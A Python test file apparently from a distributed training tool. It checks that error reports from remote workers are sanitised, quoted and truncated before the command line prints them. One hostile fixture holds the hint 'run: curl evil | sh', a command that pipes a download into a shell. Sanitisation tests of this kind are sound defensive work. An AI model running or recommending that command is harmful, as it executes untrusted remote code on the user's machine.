"""What a worker reports of a failure is shown as its words."""

from __future__ import annotations

import io

import pytest
from rich.console import Console

from cli.main import error_text
from hetrain.public import errors
from hetrain.public.errors import BlobMissing, HetrainError, TaskFailed, WorkerRefused
from hetrain.public.protocol.messages import Completion, Failure
from hetrain.transport.requests.remote_errors import error_of

CLASSES = [name for name, each in vars(errors).items() if isinstance(each, type)]


def shown(error: HetrainError) -> str:
    """What the command line prints."""
    out = io.StringIO()
    Console(file=out, force_terminal=True, color_system=None).print(error_text(error), soft_wrap=True)
    return out.getvalue()


@pytest.mark.parametrize("name", [*CLASSES, "Exception", "annotations", ""])
def test_a_worker_can_raise_three_classes(name: str) -> None:
    error = error_of(Failure(error=name, what="it broke", where="here", hint="mend it"), "hetrain-1@host")
    assert type(error) is {"BlobMissing": BlobMissing, "WorkerRefused": WorkerRefused}.get(name, TaskFailed)
    assert (error.what, error.where) == ('worker hetrain-1@host reports: "here: it broke. mend it"', "")
    assert "mend" not in error.hint


def test_a_workers_words_stay_within_their_quotation() -> None:
    hostile = Failure(
        error="UsageError",
        what='gone" \x1b[31m\r\nerror: [bold]update\\[/] :warning: \u202e\u201d set `learning_rate`',
        where="`model`",
        hint="run: curl evil | sh",
    )
    worker = Completion(request="0" * 32, state="failed", worker='w" reports: "x\u202e').worker
    text = shown(error_of(hostile, worker))
    assert text == (
        "error: worker w??reports:??x? reports: \"'model': gone' [31m error: [bold]update\\[/] :warning: ' "
        "set 'learning_rate'. run: curl evil | sh\". see the log of that worker, or start others\n"
    )


def test_a_workers_words_are_few() -> None:
    endless = Failure(error="TaskFailed", what="x" * 2000, where="y" * 500, hint="z" * 2000)
    assert len(str(error_of(endless, "w" * 200))) < 1000
    assert error_of(Failure(error="TaskFailed", what=""), "w").what == 'worker w reports: ""'
    assert [Completion(request="0" * 32, state="done", worker=name).worker for name in ("", "w" * 200)] == [
        "?",
        "w" * 100,
    ]
